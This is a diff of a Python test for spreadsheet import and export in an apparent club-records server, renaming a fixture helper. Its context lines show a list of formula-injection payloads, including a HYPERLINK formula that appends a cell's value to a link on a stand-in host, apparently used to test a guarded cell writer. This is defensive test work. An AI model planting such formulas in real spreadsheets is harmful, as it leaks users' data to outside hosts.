@@ -21,7 +21,7 @@ from server.files.spreadsheet_cells import guarded
 from server.store.engine import reading
 from server.store.log import push
 from tests.files.tables import row, table
-from tests.records.made import Season, body_of, change, usual_clubs
+from tests.records.made import Season, body_of, change, default_clubs
 
 FORMULAS = [
     '=HYPERLINK("http://x.invalid/?"&A1,"click")',
@@ -57,7 +57,7 @@ def stored(engine: sa.Engine) -> sa.Engine:
     content = table([filled(number) for number in range(len(FORMULAS))])
     import_table(engine, read_table(content))
     season = Season("=1+1 of setups")
-    clubs = usual_clubs(season)
+    clubs = default_clubs(season)
     season.changes += [
         change("setup", body_of("setup", club_id=next(iter(clubs.values())), note=words, since=f"2026-02-{day:02d}"))
         for day, words in enumerate(FORMULAS, 1)
